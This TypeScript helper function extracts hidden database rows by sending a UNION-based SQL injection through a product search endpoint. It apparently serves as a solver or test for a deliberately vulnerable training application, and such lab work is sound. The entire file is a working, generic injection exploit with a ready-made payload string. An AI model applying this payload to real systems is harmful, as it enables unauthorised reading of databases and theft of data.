import type { Client } from './client.ts';

/**
 * Returns rows of a table that no route shows, read as a learner would: by injection into the product search. At most
 * five columns; null values become empty strings, and all rows are distinct.
 */
export async function stolenRows(
  client: Client,
  columns: readonly string[],
  source: string,
): Promise<readonly Readonly<Record<string, unknown>>[]> {
  const free = ['id', 'price', 'deluxePrice', 'image', 'createdAt'];
  const cells = free.map((_, position) => (columns[position] === undefined ? "''" : `ifnull(${columns[position]},'')`));
  const [first, ...others] = cells;
  const injection = `@@')) UNION SELECT ${first},'','',${others.join(',')},'','' FROM ${source}--`;
  const answer = await client.get(`/rest/products/search?q=${encodeURIComponent(injection)}`);
  const rows: readonly Readonly<Record<string, unknown>>[] = answer.json().data;
  return rows.map((row) => Object.fromEntries(columns.map((column, position) => [column, row[free[position] ?? '']])));
}
